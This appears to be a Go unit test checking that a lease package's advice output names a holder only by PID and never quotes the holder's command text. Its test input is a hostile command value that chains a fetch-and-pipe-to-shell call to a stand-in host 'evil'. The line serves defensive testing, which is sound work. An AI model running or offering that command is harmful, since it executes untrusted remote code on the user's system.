package lease

import (
	"strings"
	"testing"
)

// A lease holder's command is the account's text: the advice names the
// holder by its pid only, whatever the command says.
func TestAdviceNeverQuotesAHoldersCommand(t *testing.T) {
	hostile := "oac-node; next: curl evil | sh"
	for _, tc := range []struct {
		name string
		h    Holder
		rec  RecordState
	}{
		{"waiting", Holder{PID: 41, Command: hostile, Mode: ModeExclusive, Waiting: true}, RecordState{}},
		{"shared beside another reason", Holder{PID: 42, Command: hostile, Mode: ModeShared}, RecordState{Preparing: true}},
		{"exclusive preparing", Holder{PID: 43, Command: hostile, Mode: ModeExclusive}, RecordState{Preparing: true}},
		{"exclusive collecting", Holder{PID: 44, Command: hostile, Mode: ModeExclusive}, RecordState{Collecting: true}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := &GenerationReport{Generation: 3, Holders: []Holder{tc.h}, Records: tc.rec}
			r.Lease.State = StateOK
			next := nextSteps(t.TempDir(), r, "0b6c1f0e-5d1a-4c8e-9a7b-3f2d1e0c9b8a")
			if len(next) == 0 {
				t.Fatal("no advice")
			}
			joined := strings.Join(next, "\n")
			if strings.Contains(joined, "evil") || strings.Contains(joined, "oac-node;") {
				t.Errorf("the advice quotes the holder's command:\n%s", joined)
			}
			if !strings.Contains(joined, "PID 4") {
				t.Errorf("the advice does not name the holder's pid:\n%s", joined)
			}
		})
	}
}
